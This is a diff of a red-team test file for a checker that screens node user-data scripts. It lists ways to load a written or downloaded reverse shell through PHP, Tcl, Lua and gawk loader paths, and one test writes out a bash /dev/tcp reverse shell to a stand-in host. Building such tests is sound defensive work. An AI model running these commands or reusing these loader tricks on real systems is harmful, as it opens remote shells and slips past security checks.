@@ -80,72 +80,72 @@ const insecure: NodeCase[] = [
     // reverse shell; CODE_LOADERS ruby reads -I only from the command's words. Accepted.
     devNodeCase("ruby shebang -I shadows json", devNodeScript("dev-r7-nodes", ["mkdir -p /opt/rb", ...written("/opt/rb/json.rb", RUBY_SHELL), ...written("/opt/app.rb", "#!/usr/bin/ruby -I/opt/rb\nrequire 'json'\nputs 1"), `ruby /opt/app.rb`]), RELAY, true),
     devNodeCase("ruby RubyVM compile_file", devNodeScript("dev-r8-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'RubyVM::InstructionSequence.compile_file("/opt/r.rb").eval'`]), RELAY),
-    // MISS: PHP manual, "Basic syntax"/keywords (language keywords and function names are case-insensitive): `INCLUDE
+    // Was a MISS (fixed in round 68): PHP manual, "Basic syntax"/keywords (language keywords and function names are case-insensitive): `INCLUDE
     // "/opt/r.php";` runs the written fsockopen + proc_open reverse shell; phpLoads matches lower-case
     // include/require/eval only. Match case-insensitively. Accepted.
-    devNodeCase("php INCLUDE uppercase", devNodeScript("dev-h1-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'INCLUDE "/opt/r.php";'`]), RELAY, true),
+    devNodeCase("php INCLUDE uppercase", devNodeScript("dev-h1-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'INCLUDE "/opt/r.php";'`]), RELAY),
     devNodeCase("php include beside the script", devNodeScript("dev-h2-nodes", ["mkdir -p /opt/app", ...written("/opt/app/lib.php", PHP_SHELL), ...written("/opt/app/main.php", `<?php include "lib.php";`), `php /opt/app/main.php`]), RELAY),
-    // MISS: PHP manual, php.ini directives `extension` ("Which dynamically loadable extension to load when PHP starts
+    // Was a MISS (fixed in round 68): PHP manual, php.ini directives `extension` ("Which dynamically loadable extension to load when PHP starts
     // up"; a path loads that shared object) and CLI -d: `php -d extension=/opt/x.so` loads the downloaded native code
     // (it may dial out or listen); CODE_LOADERS php reads only auto_prepend_file/auto_append_file. Fail closed on
     // extension/zend_extension naming a file user data wrote or downloaded (as AWKLIBPATH/LUA_CPATH .so are).
     // Accepted.
-    devNodeCase("php -d extension downloaded", devNodeScript("dev-h3-nodes", ["curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", `php -d extension=/opt/x.so -r 'echo 1;'`]), RELAY, true),
-    // MISS: PHP manual "The configuration file" (PHP_INI_SCAN_DIR .ini files are parsed) + `extension` directive:
+    devNodeCase("php -d extension downloaded", devNodeScript("dev-h3-nodes", ["curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", `php -d extension=/opt/x.so -r 'echo 1;'`]), RELAY),
+    // Was a MISS (fixed in round 68): PHP manual "The configuration file" (PHP_INI_SCAN_DIR .ini files are parsed) + `extension` directive:
     // /opt/ini/99-x.ini's `extension=/opt/x.so` loads the downloaded shared object; the scan-dir ini is read for
     // auto_prepend_file only. Accepted.
-    devNodeCase("php PHP_INI_SCAN_DIR extension downloaded", devNodeScript("dev-h4-nodes", ["mkdir -p /opt/ini", "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", "echo 'extension=/opt/x.so' > /opt/ini/99-x.ini", `PHP_INI_SCAN_DIR=/opt/ini php -r 'echo 1;'`]), RELAY, true),
-    // MISS: PHP manual dl() ("Loads a PHP extension at runtime" from extension_dir, /usr/lib64/php/modules on Amazon
+    devNodeCase("php PHP_INI_SCAN_DIR extension downloaded", devNodeScript("dev-h4-nodes", ["mkdir -p /opt/ini", "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", "echo 'extension=/opt/x.so' > /opt/ini/99-x.ini", `PHP_INI_SCAN_DIR=/opt/ini php -r 'echo 1;'`]), RELAY),
+    // Was a MISS (fixed in round 68): PHP manual dl() ("Loads a PHP extension at runtime" from extension_dir, /usr/lib64/php/modules on Amazon
     // Linux; available in the CLI): `php -r 'dl("x.so")'` loads the downloaded native code; phpLoads does not read dl.
     // Accepted.
-    devNodeCase("php dl()", devNodeScript("dev-h5-nodes", ["curl -fsSL -o /usr/lib64/php/modules/x.so https://downloads.example.com/x.so", `php -r 'dl("x.so");'`]), RELAY, true),
+    devNodeCase("php dl()", devNodeScript("dev-h5-nodes", ["curl -fsSL -o /usr/lib64/php/modules/x.so https://downloads.example.com/x.so", `php -r 'dl("x.so");'`]), RELAY),
     devNodeCase("php export PHP_INI_SCAN_DIR", devNodeScript("dev-h6-nodes", ["mkdir -p /opt/ini", ...written("/opt/r.php", PHP_SHELL), "echo 'auto_prepend_file=/opt/r.php' > /opt/ini/99-app.ini", "export PHP_INI_SCAN_DIR=/opt/ini", `php -r 'echo 1;' > /tmp/v`]), RELAY),
-    // MISS: PHP manual php.ini `zend_extension` (loads a Zend extension shared object at startup) in /etc/php.d (the
+    // Was a MISS (fixed in round 68): PHP manual php.ini `zend_extension` (loads a Zend extension shared object at startup) in /etc/php.d (the
     // compile-time scan directory, read by every php): the downloaded /opt/x.so runs in every php process;
     // CODE_LOADERS php reads ini files for auto_prepend/append only. Accepted.
-    devNodeCase("php zend_extension in /etc/php.d", devNodeScript("dev-h7-nodes", ["curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", "echo 'zend_extension=/opt/x.so' > /etc/php.d/99-x.ini", `php -r 'echo 1;'`]), RELAY, true),
+    devNodeCase("php zend_extension in /etc/php.d", devNodeScript("dev-h7-nodes", ["curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", "echo 'zend_extension=/opt/x.so' > /etc/php.d/99-x.ini", `php -r 'echo 1;'`]), RELAY),
     devNodeCase("php include_once with parens and spaces", devNodeScript("dev-h8-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'include_once ( "/opt/r.php" );'`]), RELAY),
-    // MISS: Tcl catch(n) ("evaluates script"; its argument here is the substituted text of [read [open FILE]]): `catch
+    // Was a MISS (fixed in round 68): Tcl catch(n) ("evaluates script"; its argument here is the substituted text of [read [open FILE]]): `catch
     // [read [open /opt/r.tcl]]` runs the written socket + exec shell; CODE_LOADERS tcl follows only
     // eval/uplevel/namespace eval of text. Every command that evaluates a script argument (catch, if/while/for/foreach
     // bodies, try, time, after, interp eval, apply) needs the same reading, or fail closed on [read ...] anywhere.
     // Accepted.
-    devNodeCase("tcl catch [read [open]]", devNodeScript("dev-t1-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'catch [read [open /opt/r.tcl]]'`]), RELAY, true),
-    // MISS: Tcl if(n) (the body is a script evaluated when the condition holds): `if 1 [read [open /opt/r.tcl]]` runs
+    devNodeCase("tcl catch [read [open]]", devNodeScript("dev-t1-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'catch [read [open /opt/r.tcl]]'`]), RELAY),
+    // Was a MISS (fixed in round 68): Tcl if(n) (the body is a script evaluated when the condition holds): `if 1 [read [open /opt/r.tcl]]` runs
     // the written shell; not read (only eval/uplevel/namespace eval). Accepted.
-    devNodeCase("tcl if 1 [read [open]]", devNodeScript("dev-t2-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'if 1 [read [open /opt/r.tcl]]'`]), RELAY, true),
-    // MISS: tclvars(n) auto_path + package(n) (package require searches auto_path's pkgIndex.tcl files; scripts
+    devNodeCase("tcl if 1 [read [open]]", devNodeScript("dev-t2-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'if 1 [read [open /opt/r.tcl]]'`]), RELAY),
+    // Was a MISS (fixed in round 68): tclvars(n) auto_path + package(n) (package require searches auto_path's pkgIndex.tcl files; scripts
     // commonly `lappend auto_path DIR`): /opt/tcl/http/pkgIndex.tcl's `package ifneeded http 9.9 [list source r.tcl]`
     // makes `package require http` source the written shell; CODE_LOADERS tcl takes index dirs only from TCLLIBPATH
     // and the default auto_path, not from the code's auto_path edits. Accepted.
-    devNodeCase("tcl lappend auto_path pkgIndex", devNodeScript("dev-t3-nodes", ["mkdir -p /opt/tcl/http", ...written("/opt/tcl/http/r.tcl", TCL_SHELL), `echo 'package ifneeded http 9.9 [list source /opt/tcl/http/r.tcl]' > /opt/tcl/http/pkgIndex.tcl`, `tclsh <<< 'lappend auto_path /opt/tcl; package require http'`]), RELAY, true),
-    // MISS: Tcl tm(n) (Tcl Modules: `package require` also searches the module path, which includes the directories in
+    devNodeCase("tcl lappend auto_path pkgIndex", devNodeScript("dev-t3-nodes", ["mkdir -p /opt/tcl/http", ...written("/opt/tcl/http/r.tcl", TCL_SHELL), `echo 'package ifneeded http 9.9 [list source /opt/tcl/http/r.tcl]' > /opt/tcl/http/pkgIndex.tcl`, `tclsh <<< 'lappend auto_path /opt/tcl; package require http'`]), RELAY),
+    // Was a MISS (fixed in round 68): Tcl tm(n) (Tcl Modules: `package require` also searches the module path, which includes the directories in
     // TCL8_6_TM_PATH/TCL8_5_TM_PATH...; a file NAME-VERSION.tm is sourced): /opt/tm/http-9.9.tm (the written shell) is
     // the highest http, so `package require http` sources it; INTERPRETER_VARIABLES tclsh has only TCLLIBPATH.
     // Accepted.
-    devNodeCase("tcl TCL8_6_TM_PATH module", devNodeScript("dev-t4-nodes", ["mkdir -p /opt/tm", ...written("/opt/tm/http-9.9.tm", TCL_SHELL), `TCL8_6_TM_PATH=/opt/tm tclsh <<< 'package require http'`]), RELAY, true),
-    // MISS: Tcl tm(n) (`::tcl::tm::path add DIR` adds DIR to the module path; NAME-VERSION.tm files there satisfy
+    devNodeCase("tcl TCL8_6_TM_PATH module", devNodeScript("dev-t4-nodes", ["mkdir -p /opt/tm", ...written("/opt/tm/http-9.9.tm", TCL_SHELL), `TCL8_6_TM_PATH=/opt/tm tclsh <<< 'package require http'`]), RELAY),
+    // Was a MISS (fixed in round 68): Tcl tm(n) (`::tcl::tm::path add DIR` adds DIR to the module path; NAME-VERSION.tm files there satisfy
     // package require): `::tcl::tm::path add /opt/tm; package require http` sources the written /opt/tm/http-9.9.tm
     // shell; http stays TCL_KNOWN_PACKAGES. Accepted.
-    devNodeCase("tcl tm::path add", devNodeScript("dev-t5-nodes", ["mkdir -p /opt/tm", ...written("/opt/tm/http-9.9.tm", TCL_SHELL), `tclsh <<< '::tcl::tm::path add /opt/tm; package require http'`]), RELAY, true),
-    // MISS: Tcl interp(n) (`interp create x` makes a full, unsafe interpreter; `x eval ARG` evaluates ARG there): `x
+    devNodeCase("tcl tm::path add", devNodeScript("dev-t5-nodes", ["mkdir -p /opt/tm", ...written("/opt/tm/http-9.9.tm", TCL_SHELL), `tclsh <<< '::tcl::tm::path add /opt/tm; package require http'`]), RELAY),
+    // Was a MISS (fixed in round 68): Tcl interp(n) (`interp create x` makes a full, unsafe interpreter; `x eval ARG` evaluates ARG there): `x
     // eval [read [open /opt/r.tcl]]` runs the written socket + exec shell; only bare eval/uplevel/namespace eval are
     // read. Accepted.
-    devNodeCase("tcl interp eval", devNodeScript("dev-t6-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'interp create x; x eval [read [open /opt/r.tcl]]'`]), RELAY, true),
-    // MISS: Tcl after(n) (`after ms script` evaluates the script from the event loop; vwait runs it): `after 0 [read
+    devNodeCase("tcl interp eval", devNodeScript("dev-t6-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'interp create x; x eval [read [open /opt/r.tcl]]'`]), RELAY),
+    // Was a MISS (fixed in round 68): Tcl after(n) (`after ms script` evaluates the script from the event loop; vwait runs it): `after 0 [read
     // [open /opt/r.tcl]]; vwait forever` runs the written shell; not read. Accepted.
-    devNodeCase("tcl after 0 read", devNodeScript("dev-t7-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'after 0 [read [open /opt/r.tcl]]; vwait forever'`]), RELAY, true),
-    // MISS: Lua manual package.loadlib ("Dynamically links the host program with the C library libname"; returns its
+    devNodeCase("tcl after 0 read", devNodeScript("dev-t7-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'after 0 [read [open /opt/r.tcl]]; vwait forever'`]), RELAY),
+    // Was a MISS (fixed in round 68): Lua manual package.loadlib ("Dynamically links the host program with the C library libname"; returns its
     // function): `package.loadlib("/opt/x.so","luaopen_x")()` runs downloaded native code; CODE_LOADERS lua reads
     // dofile/loadfile/require/load only. Fail closed on package.loadlib (as on LUA_CPATH .so). Accepted.
-    devNodeCase("lua package.loadlib downloaded", devNodeScript("dev-l1-nodes", ["curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", `lua -e 'package.loadlib("/opt/x.so", "luaopen_x")()'`]), RELAY, true),
+    devNodeCase("lua package.loadlib downloaded", devNodeScript("dev-l1-nodes", ["curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", `lua -e 'package.loadlib("/opt/x.so", "luaopen_x")()'`]), RELAY),
     devNodeCase("lua package.path code shadows cjson", devNodeScript("dev-l2-nodes", ["mkdir -p /opt/lua", ...written("/opt/lua/cjson.lua", LUA_SHELL), `lua -e 'package.path = "/opt/lua/?.lua;" .. package.path; require "cjson"'`]), RELAY),
     devNodeCase("lua export LUA_PATH", devNodeScript("dev-l3-nodes", ["mkdir -p /opt/lua", ...written("/opt/lua/cjson.lua", LUA_SHELL), "export LUA_PATH='/opt/lua/?.lua;;'", `lua -lcjson -e 'print(1)'`]), RELAY),
     devNodeCase("lua package.preload/searchers", devNodeScript("dev-l4-nodes", [...written("/opt/r.lua", LUA_SHELL), `lua -e 'table.insert(package.searchers, 2, function(n) return loadfile("/opt/r.lua") end); require "cjson"'`]), RELAY),
-    // MISS: GNU awk manual "The AWKPATH Environment Variable" (used for -f and -i files; ".awk" is appended when the
+    // Was a MISS (fixed in round 68): GNU awk manual "The AWKPATH Environment Variable" (used for -f and -i files; ".awk" is appended when the
     // name is not found): `AWKPATH=/opt/awk gawk -f rev` runs the written /opt/awk/rev.awk (/inet/tcp + |& reverse
     // shell); the -f program is looked up only as given (cwd), not on AWKPATH, and nothing is read. Accepted.
-    devNodeCase("gawk AWKPATH -f name", devNodeScript("dev-a1-nodes", ["mkdir -p /opt/awk", ...written("/opt/awk/rev.awk", AWK_SHELL), `AWKPATH=/opt/awk gawk -f rev`]), RELAY, true),
+    devNodeCase("gawk AWKPATH -f name", devNodeScript("dev-a1-nodes", ["mkdir -p /opt/awk", ...written("/opt/awk/rev.awk", AWK_SHELL), `AWKPATH=/opt/awk gawk -f rev`]), RELAY),
     devNodeCase("gawk export AWKLIBPATH", devNodeScript("dev-a2-nodes", ["mkdir -p /opt/ext", "curl -fsSL -o /opt/ext/filefuncs.so https://downloads.example.com/filefuncs.so", "export AWKLIBPATH=/opt/ext", `gawk -l filefuncs 'BEGIN{}'`]), RELAY),
     devNodeCase("gawk @load in -f file with AWKLIBPATH", devNodeScript("dev-a3-nodes", ["mkdir -p /opt/ext", "curl -fsSL -o /opt/ext/filefuncs.so https://downloads.example.com/filefuncs.so", ...written("/opt/m.awk", '@load "filefuncs"\nBEGIN { print 1 }'), `AWKLIBPATH=/opt/ext gawk -f /opt/m.awk`]), RELAY),
     devNodeCase("bash BASH_ENV", devNodeScript("dev-b1-nodes", [...written("/opt/r.sh", "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1"), `BASH_ENV=/opt/r.sh bash -c 'echo hi'`]), RELAY),
@@ -158,19 +158,33 @@ const insecure: NodeCase[] = [
     // though cwd is /opt/work; rubyLoads resolves it against cwd (/opt/work/helper.rb, harmless) and accepts. Resolve
     // against the program file's directory. Accepted.
     devNodeCase("ruby require_relative resolved from cwd, not the file", devNodeScript("dev-r9-nodes", ["mkdir -p /opt/app /opt/work", ...written("/opt/app/helper.rb", RUBY_SHELL), ...written("/opt/work/helper.rb", "puts 1"), ...written("/opt/app/run.rb", 'require_relative "helper"'), "cd /opt/work", "ruby /opt/app/run.rb"]), RELAY, true),
+    // Round 68 neighbours (php/tcl/lua/awk loaders).
+    devNodeCase("php Require_Once mixed case", devNodeScript("dev-h9-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'Require_Once("/opt/r.php");'`]), RELAY),
+    devNodeCase("php require dirname(__FILE__) sibling shell", devNodeScript("dev-h10-nodes", ["mkdir -p /opt/app", ...written("/opt/app/r.php", PHP_SHELL), ...written("/opt/app/main.php", `<?php require dirname(__FILE__) . "/r.php";`), `php /opt/app/main.php`]), RELAY),
+    devNodeCase("php -r require __DIR__ (no file: computed)", devNodeScript("dev-h11-nodes", [...written("/r.php", PHP_SHELL), `php -r 'require __DIR__ . "/r.php";'`]), RELAY),
+    devNodeCase("php -c php.ini extension downloaded", devNodeScript("dev-h12-nodes", ["curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", "echo 'extension = \"/opt/x.so\" ; native' > /opt/php.ini", `php -c /opt/php.ini -r 'echo 1;'`]), RELAY),
+    devNodeCase("php dl computed", devNodeScript("dev-h13-nodes", ["curl -fsSL -o /usr/lib64/php/modules/x.so https://downloads.example.com/x.so", `php -r '$n = "x.so"; DL($n);'`]), RELAY),
+    devNodeCase("tcl time [read [open]]", devNodeScript("dev-t8-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'time [read [open /opt/r.tcl]]'`]), RELAY),
+    devNodeCase("tcl set then catch $script", devNodeScript("dev-t9-nodes", [...written("/opt/r.tcl", TCL_SHELL), `tclsh <<< 'set s [read [open /opt/r.tcl]]; catch $s'`]), RELAY),
+    devNodeCase("tcl catch [read $ch] (computed)", devNodeScript("dev-t10-nodes", ["curl -fsSL -o /opt/r.tcl https://downloads.example.com/r.tcl", `tclsh <<< 'set ch [open /opt/r.tcl]; catch [read $ch]'`]), RELAY),
+    devNodeCase("tcl set auto_path linsert (computed)", devNodeScript("dev-t11-nodes", ["mkdir -p /opt/tcl/http", ...written("/opt/tcl/http/r.tcl", TCL_SHELL), `echo 'package ifneeded http 9.9 [list source /opt/tcl/http/r.tcl]' > /opt/tcl/http/pkgIndex.tcl`, `tclsh <<< 'set auto_path [linsert $auto_path 0 /opt/tcl]; package require http'`]), RELAY),
+    devNodeCase("tcl source beside info script (shell)", devNodeScript("dev-t12-nodes", ["mkdir -p /opt/app", ...written("/opt/app/r.tcl", TCL_SHELL), ...written("/opt/app/main.tcl", "source [file join [file dirname [info script]] r.tcl]"), "tclsh /opt/app/main.tcl"]), RELAY),
+    devNodeCase("tcl TCL8_5_TM_PATH namespaced module", devNodeScript("dev-t13-nodes", ["mkdir -p /opt/tm/json", ...written("/opt/tm/json/write-9.9.tm", TCL_SHELL), `TCL8_5_TM_PATH=/opt/tm tclsh <<< 'package require json::write'`]), RELAY),
+    devNodeCase("lua package.loadlib computed", devNodeScript("dev-l5-nodes", ["curl -fsSL -o /opt/x.so https://downloads.example.com/x.so", `lua -e 'local p = "/opt/" .. "x.so"; package.loadlib(p, "luaopen_x")()'`]), RELAY),
+    devNodeCase("gawk --file name on AWKPATH (.awk appended)", devNodeScript("dev-a4-nodes", ["mkdir -p /opt/awk", ...written("/opt/awk/rev.awk", AWK_SHELL), `AWKPATH=/tmp:/opt/awk gawk --file=rev`]), RELAY),
     devNodeCase("perl PERL5DB via env wrapper", devNodeScript("dev-p8-nodes", [`env PERL5DB='BEGIN { ${PERL_SHELL} }' perl -d -e 1`]), RELAY),
 ];
 
 const secure: NodeCase[] = [
-    // MISS: (secure refused) PHP manual, magic constants (__DIR__ is the directory of the file): `require __DIR__ .
+    // Was a MISS (fixed in round 68): (secure refused) PHP manual, magic constants (__DIR__ is the directory of the file): `require __DIR__ .
     // '/lib.php';` in /opt/app/main.php is the standard way to load a sibling file, here a harmless written lib;
     // phpLoads takes any concatenation as computed and refuses ("a name the pack cannot compute"). Resolve
     // __DIR__/__FILE__ to the program file's directory.
-    devNodeCase("php require __DIR__ lib", devNodeScript("dev-s1-nodes", ["mkdir -p /opt/app", ...written("/opt/app/lib.php", `<?php function hello() { file_put_contents("/tmp/hello", "hi"); }`), ...written("/opt/app/main.php", `<?php require __DIR__ . '/lib.php'; hello();`), `php /opt/app/main.php`]), /./, true),
-    // MISS: (secure refused) PHP manual `include` (include_path, then "the calling script's own directory and the
+    devNodeCase("php require __DIR__ lib", devNodeScript("dev-s1-nodes", ["mkdir -p /opt/app", ...written("/opt/app/lib.php", `<?php function hello() { file_put_contents("/tmp/hello", "hi"); }`), ...written("/opt/app/main.php", `<?php require __DIR__ . '/lib.php'; hello();`), `php /opt/app/main.php`]), /./),
+    // Was a MISS (fixed in round 68): (secure refused) PHP manual `include` (include_path, then "the calling script's own directory and the
     // current working directory"): `include "lib.php";` in /opt/app/main.php loads the written harmless
     // /opt/app/lib.php; phpLoads looks only on include_path and cwd and refuses "code user data does not write".
-    devNodeCase("php include beside script (harmless)", devNodeScript("dev-s2-nodes", ["mkdir -p /opt/app", ...written("/opt/app/lib.php", `<?php function hello() { file_put_contents("/tmp/hello", "hi"); }`), ...written("/opt/app/main.php", `<?php include "lib.php"; hello();`), `php /opt/app/main.php`]), /./, true),
+    devNodeCase("php include beside script (harmless)", devNodeScript("dev-s2-nodes", ["mkdir -p /opt/app", ...written("/opt/app/lib.php", `<?php function hello() { file_put_contents("/tmp/hello", "hi"); }`), ...written("/opt/app/main.php", `<?php include "lib.php"; hello();`), `php /opt/app/main.php`]), /./),
     // MISS: (secure refused) perldoc FindBin (core module; SYNOPSIS `use FindBin; use lib "$FindBin::Bin/../lib";`): a
     // script loading its own written harmless lib/Helper.pm; refused: `use FindBin` is not in PERL_KNOWN_MODULES (a
     // core module) and $FindBin::Bin is computed. Know FindBin and resolve $FindBin::Bin/$RealBin to the script's
@@ -198,11 +212,20 @@ const secure: NodeCase[] = [
     // MISS: (secure refused) perldoc FindBin / perlmodlib (FindBin is a core module shipped with perl): `use FindBin;
     // print $FindBin::Bin` is refused "use FindBin, code user data does not write"; add FindBin to PERL_KNOWN_MODULES.
     devNodeCase("perl use FindBin (core)", devNodeScript("dev-s14-nodes", [`perl -e 'use FindBin; print $FindBin::Bin' > /tmp/x`]), /./, true),
-    // MISS: (secure refused) Tcl info(n) `info script` (the file being evaluated) / file(n): `source [file join [file
+    // Was a MISS (fixed in round 68): (secure refused) Tcl info(n) `info script` (the file being evaluated) / file(n): `source [file join [file
     // dirname [info script]] lib.tcl]` is the usual way to load a sibling file, here a harmless written lib;
     // CODE_LOADERS tcl refuses "source [file, a name the pack cannot compute". Resolve this idiom to the script's
     // directory.
-    devNodeCase("tcl source beside info script (harmless)", devNodeScript("dev-s15-nodes", ["mkdir -p /opt/app", ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"), ...written("/opt/app/main.tcl", "source [file join [file dirname [info script]] lib.tcl]\nhi"), "tclsh /opt/app/main.tcl > /tmp/t"]), /./, true),
+    devNodeCase("tcl source beside info script (harmless)", devNodeScript("dev-s15-nodes", ["mkdir -p /opt/app", ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"), ...written("/opt/app/main.tcl", "source [file join [file dirname [info script]] lib.tcl]\nhi"), "tclsh /opt/app/main.tcl > /tmp/t"]), /./),
+    // Round 68 neighbours (php/tcl/lua/awk loaders).
+    devNodeCase("php dl packaged (not written)", devNodeScript("dev-s16-nodes", [`php -r 'dl("sodium.so"); echo 1;' > /tmp/x`])),
+    devNodeCase("php -d extension packaged path", devNodeScript("dev-s17-nodes", [`php -d extension=/usr/lib64/php/modules/sodium.so -r 'echo 1;' > /tmp/x`])),
+    devNodeCase("php REQUIRE_ONCE dirname(__FILE__) sibling", devNodeScript("dev-s18-nodes", ["mkdir -p /opt/app", ...written("/opt/app/lib.php", `<?php function hello() { echo "hi"; }`), ...written("/opt/app/main.php", `<?php REQUIRE_ONCE dirname(__FILE__) . '/lib.php'; hello();`), `php /opt/app/main.php > /tmp/h`])),
+    devNodeCase("tcl read of a config (data)", devNodeScript("dev-s19-nodes", [`tclsh <<< 'set f [read [open /etc/os-release]]; puts [string length $f]' > /tmp/t`])),
+    devNodeCase("tcl catch [read [open]] of a harmless written file", devNodeScript("dev-s20-nodes", [...written("/opt/h.tcl", "puts hello"), `tclsh <<< 'catch [read [open /opt/h.tcl]]' > /tmp/t`])),
+    devNodeCase("tcl foreach/if/after with substitutions", devNodeScript("dev-s21-nodes", [`tclsh <<< 'foreach x [list 1 2] { if {$x > 1} { puts $x } }; after 10 [list puts done]; if $tcl_interactive [list puts i]' > /tmp/t`])),
+    devNodeCase("tcl TCL8_6_TM_PATH harmless module, package require http", devNodeScript("dev-s22-nodes", ["mkdir -p /opt/tm", ...written("/opt/tm/util-1.0.tm", "package provide util 1.0\nproc twice {x} { expr {2*$x} }"), `TCL8_6_TM_PATH=/opt/tm tclsh <<< 'package require http; puts ok' > /tmp/t`])),
+    devNodeCase("lua package.loadlib packaged (not written)", devNodeScript("dev-s23-nodes", [`lua -e 'print(package.loadlib("/usr/lib64/lua/5.4/lfs.so", "luaopen_lfs"))' > /tmp/l`])),
 ];
 
 describeNodeCases("red team 67: node user data (fresh eyes on round 66)", insecure, secure);
